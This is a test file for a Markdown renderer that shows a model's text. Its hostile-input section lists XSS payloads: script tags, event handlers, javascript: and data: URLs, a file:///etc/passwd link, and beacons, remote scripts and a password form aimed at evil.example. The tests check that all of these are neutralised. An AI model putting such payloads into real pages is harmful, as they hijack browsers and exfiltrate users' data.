import { describe, expect, test } from "vitest";
import { completed } from "./completion.ts";
import { blocks, markdown, nodesOf, plain } from "./markdown.ts";
import { MAX_LENGTH, MAX_MARKS } from "./markdown-bounds.ts";

function html(text: string): string {
  const place = document.createElement("div");
  place.append(markdown(text));
  return place.innerHTML.replaceAll(' dir="auto"', "");
}

describe("a model's text", () => {
  test("is rendered as Markdown", () => {
    expect(html("**Up** and *down*\n\n- one\n- `two`")).toBe(
      "<p><strong>Up</strong> and <em>down</em></p><ul>\n<li>one</li>\n<li><code>two</code></li>\n</ul>",
    );
    expect(html("| a | b |\n|--|--|\n| 1 | 2 |")).toContain("<td>1</td>");
  });

  test("has headings one below the other, under the page's own", () => {
    const levels = (text: string, above?: number): string[] =>
      [...markdown(text, above).querySelectorAll("h3, h4, h5, h6")].map(({ localName }) => localName);
    expect(levels("### A\n\n###### B\n\n# C\n\n## D\n\n- ### E\n\n> ## F")).toEqual(["h4", "h5", "h4", "h5", "h6", "h5"]);
    expect(levels("## A", 2)).toEqual(["h3"]);
  });

  test("keeps a number and its percent sign together, except in code", () => {
    expect(html("9.5 % of `9.5 %`")).toBe("<p>9.5&nbsp;% of <code>9.5 %</code></p>");
  });

  test("has footnotes, and loses no definition", () => {
    expect(html("Up[^1].\n\n[^1]: Annual *report*.\n[^b]: Filing.")).toBe(
      '<p>Up<sup to="^1">1</sup>.</p><p note="^1"><sup>1</sup> Annual <em>report</em>.</p><p note="^b"><sup>b</sup> Filing.</p>',
    );
    expect(html("[1]: Bloomberg")).toBe('<p note="1"><span>[1]:</span> Bloomberg</p>');
    expect(markdown("See [1].\n\n[1]: https://example.com/").querySelector("a")?.href).toBe("https://example.com/");
  });

  test("has formulas, each with its source until it is drawn", () => {
    expect(html("So $r = 9.5%$ and\n\n$$\nP = \\frac{A}{B}\n+ 1\n$$")).toBe(
      '<p>So <outcry-formula tex="r = 9.5%">$r = 9.5%$</outcry-formula> and</p>' +
        '<outcry-formula tex="P = \\frac{A}{B}\n+ 1" display="">$$\nP = \\frac{A}{B}\n+ 1\n$$</outcry-formula>',
    );
    expect(html("`$x$`\n\n```\n$x$\n```")).not.toContain("outcry-formula");
  });

  test("has character references, except in code", () => {
    expect(markdown("R&amp;D &#8364;5 &lt;b&gt; &#0; &nosuch; &constructor; `&amp;`").textContent).toBe(
      "R&D €5 <b> \ufffd &nosuch; &constructor; &amp;",
    );
  });

  test("has one link where an image stands in a link", () => {
    const links = markdown("[a **![b](https://image.example/)**](https://link.example/)");
    expect(links.querySelectorAll("a").length).toBe(1);
    expect(links.textContent).toBe("a [image: b] (link.example)");
  });

  test("shows a link's host and sends no referrer", () => {
    expect(html("[annual report](https://example.com/a?b=1&c=2)")).toBe(
      '<p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow ugc" target="_blank">' +
        'annual report</a><span class="leads-to"> (example.com)</span></p>',
    );
    expect(html("https://example.com/a")).not.toContain("leads-to");
    expect(html("[https://bank.example](https://evil.example/)")).toContain("(evil.example)");
  });
});

const HOSTILE = [
  "<script>alert(1)</script>",
  "a <script src=https://evil.example/x.js></script> b",
  "<img src=x onerror=alert(1)>",
  "![beacon](https://evil.example/pixel.png)",
  '![x](https://evil.example/a.png "t\\" onerror=alert(1)")',
  "![r][ref]\n\n[ref]: https://evil.example/pixel.png",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java&#10;script:alert(1))",
  "[click](&#x6A;avascript:alert(1))",
  "<javascript:alert(1)>",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox(1))",
  "[click](blob:https://example.com/x)",
  "[click](file:///etc/passwd)",
  "[click](/accounts/logout/)",
  "[click](//evil.example/)",
  '[a](https://evil.example/" onmouseover="alert(1))',
  "<svg onload=alert(1)><circle/></svg>",
  "<svg><use href='https://evil.example/x.svg#y'/></svg>",
  "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>body{background:url(https://evil.example/)}</style>",
  "<p style='background:url(https://evil.example/)'>x</p>",
  "<iframe src=https://evil.example/></iframe>",
  "<object data=https://evil.example/></object>",
  "<embed src=https://evil.example/>",
  "<video src=https://evil.example/ autoplay></video>",
  "<audio src=https://evil.example/ autoplay></audio>",
  "<form action=https://evil.example/><input name=password><button>go</button></form>",
  "<div id=main class=masthead data-testid=verdict>x</div>",
  "<outcry-debate></outcry-debate>",
  "<details open ontoggle=alert(1)>",
  "<a href=https://evil.example/ ping=https://evil.example/>x</a>",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|--|\n| <script>1</script> |",
  "# <img src=x onerror=alert(1)>",
  "- [ ] <input onfocus=alert(1) autofocus>",
  "<!-- <img src=x onerror=alert(1)> -->",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "```\" onmouseover=\"alert(1)\nx\n```",
  '$x" onmouseover="alert(1)$',
  "$$<img src=x onerror=alert(1)>$$",
  "$\\href{javascript:alert(1)}{x}$",
  "[^1]: <img src=x onerror=alert(1)>",
];

const ELEMENTS = new Set(
  "p br strong em del sup code pre blockquote ul ol li h3 h4 h5 h6 hr a table thead tbody tr th td span".split(" "),
);
const OTHER_ATTRIBUTES = ["span class=leads-to", "pre tabindex=0"];
/** What the page puts around a table: two buttons without any attribute of the text's. */
const FRAME = "div.table-frame, div.table-view, p.table-actions, p.table-actions *";

describe.each(HOSTILE)("hostile: %s", (text) => {
  test("leaves no active element and no request", () => {
    const fragment = markdown(text);
    for (const element of fragment.querySelectorAll("*")) {
      const name = element.localName;
      if (element.matches(FRAME)) continue;
      if (name === "outcry-formula") {
        expect(["tex", "tex,display", "display,tex"]).toContain(element.getAttributeNames().filter((each) => each !== "dir").join());
        continue;
      }
      expect(ELEMENTS).toContain(name);
      for (const attribute of element.attributes) {
        if (attribute.name === "dir") {
          expect(attribute.value).toBe("auto");
        } else if (name === "a") {
          expect(["href", "rel", "target"]).toContain(attribute.name);
        } else if (attribute.name === "note" || attribute.name === "to") {
          expect(attribute.value).toMatch(/^(\^\S+|\d+)$/);
        } else {
          expect(OTHER_ATTRIBUTES).toContain(`${name} ${attribute.name}=${attribute.value}`);
        }
      }
      if (name === "a") {
        expect(element.getAttribute("href")).toMatch(/^https?:\/\//);
        expect(element.getAttribute("rel")).toBe("noopener noreferrer nofollow ugc");
      }
    }
  });
});

test("each block has its own direction, so that a bidirectional control ends with it", () => {
  const [first, list] = markdown("\u202egnp.\n\n- קנה").children;
  expect([first?.getAttribute("dir"), list?.getAttribute("dir")]).toEqual(["auto", "auto"]);
});

describe("a tilde", () => {
  test.each(["worth (~$5~$10)", "range ~10~15 million", "~a~ b"])("%j strikes nothing out", (text) => {
    expect(markdown(text).textContent).toBe(text);
    expect(html(text)).not.toContain("<del>");
    expect(completed(text)).toBe(text);
  });

  test("strikes out in twos", () => {
    expect(html("~~no~~ ~yes~")).toBe("<p><del>no</del> ~yes~</p>");
  });
});

describe("a text that Markdown cannot draw is shown as it is", () => {
  test.each([
    ["too long", `**a** ${"word ".repeat(MAX_LENGTH / 5)}`],
    ["too many marks", "*a ".repeat(MAX_MARKS + 1)],
    ["quotes in quotes", ">".repeat(6_000)],
    ["lists in lists", "1. ".repeat(2_000)],
    ["bullets in bullets", "x\n\n" + "* ".repeat(3_000) + "a"],
  ])("%s", (_, text) => {
    const [paragraph, ...others] = markdown(text).children;
    expect([paragraph?.className, others.length]).toEqual(["plain", 0]);
    expect(paragraph?.textContent === text).toBe(true);
  });

  test("because the parser fails", () => {
    expect(nodesOf({ type: "list", raw: "- a", items: null } as never)[0]?.textContent).toBe("- a");
  });
});

describe("hostile texts take a bounded time", () => {
  const parts = ["*a ", "_a ", "**a ", "`a ", "[a ", "[a](", "~~a ", "> ", "- ", "1. ", "a*b*", "a_", "[", "=\n", "\n- a\n\n"];
  const more = ["\n> a\n", "\n- a", "|a|b|\n|-|-|\n", "\n\n" + "*a ".repeat(100), "<a ", "&a;", "http://a ", "![a ",
    "$a ", "$$", "$$\n", "\\(", "\\[\n", "$\\sqrt{", "[^a", "[^a]: ", "[^a]: b\n", "a\n\n", "\n$$a\n"];
  test.each([...parts, ...more])("%j", (part) => {
    const prose = "Revenue grew by 3%, but **margins** fell; see [the report](https://example.com).\n\n";
    // The fastest of some runs, because the machine may be busy during one.
    const harmless = Math.min(...[1, 2, 3].map(() => seconds(prose, MAX_LENGTH)));
    for (const length of [3_000, MAX_LENGTH, 500_000]) {
      const times = [1, 2, 3].map(() => seconds(part, length) / harmless);
      expect(Math.min(...times)).toBeLessThan(30);
    }
  });

  function seconds(part: string, length: number): number {
    const text = part.repeat(length / part.length);
    const begun = performance.now();
    blocks(completed(text));
    return performance.now() - begun;
  }
});

test("raw HTML is shown as text", () => {
  expect(markdown("<b>bold</b> move").textContent).toBe("<b>bold</b> move");
  expect(markdown("<script>alert(1)</script>").textContent).toBe("<script>alert(1)</script>");
});

test("an image becomes a link and is not fetched", () => {
  expect(markdown("![chart](https://example.com/c.png)").textContent).toBe("[image: chart] (example.com)");
});

describe("while it streams", () => {
  test.each([
    ["**Margins he", "**Margins he**"],
    ["**Margins** and *ca", "**Margins** and *ca*"],
    ["**Margins held*", "**Margins held**"],
    ["The **", "The"],
    ["`0.9", "`0.9`"],
    ["`a*b", "`a*b`"],
    ["see [the rep", "see the rep"],
    ["see [the report](https://exa", "see the report"],
    ["see [the report](https://example.com/)", "see [the report](https://example.com/)"],
    ["* item one\n* item tw", "* item one\n* item tw"],
    ["2 * 3 is 6", "2 * 3 is 6"],
    ["- a **b\n- c**", "- a **b\n- c**"],
    ["A paragraph\n-", "A paragraph\n"],
    ["A paragraph\n---", "A paragraph\n"],
    ["One **done**.\n\nTwo *op", "One **done**.\n\nTwo *op*"],
    ["One *left open.\n\nTwo", "One *left open.\n\nTwo"],
    ["```\nx = **y", "```\nx = **y"],
    ["```\nx = 1\n\ny = **z", "```\nx = 1\n\ny = **z"],
    ["a ***b", "a ***b***"],
    ["costs $5 and *mo", "costs $5 and *mo*"],
    ["$$\nx_1 * *y", "$$\nx_1 * *y"],
    ["\\[ a *b", "\\[ a *b"],
    ["~~a", "~~a~~"],
    ["a <b", "a <b"],
    ["- > 25", "- > 25"],
    ["plain", "plain"],
    ["", ""],
  ])("%j reads as %j", (text, expected) => {
    expect(completed(text)).toBe(expected);
  });

  test("an incomplete image is shown like a complete one", () => {
    expect(markdown(completed("![chart](https://exa")).textContent).toBe("[image: chart]");
  });
});

test("a screen reader gets the text without its marks", () => {
  expect(plain("**Up**,\n\n- one\n- [two](https://example.com)")).toContain("Up");
  expect(plain("**Up** `now`")).toBe("Up now");
});

test("a list that is still being written is never doubled", () => {
  const text = "Look for **it**:\n\n- what has to go right,\n- what would show it early.";
  for (let end = 1; end <= text.length; end += 1) {
    // At most the marks that close a word are added.
    expect(completed(text.slice(0, end)).length).toBeLessThanOrEqual(end + 2);
  }
});
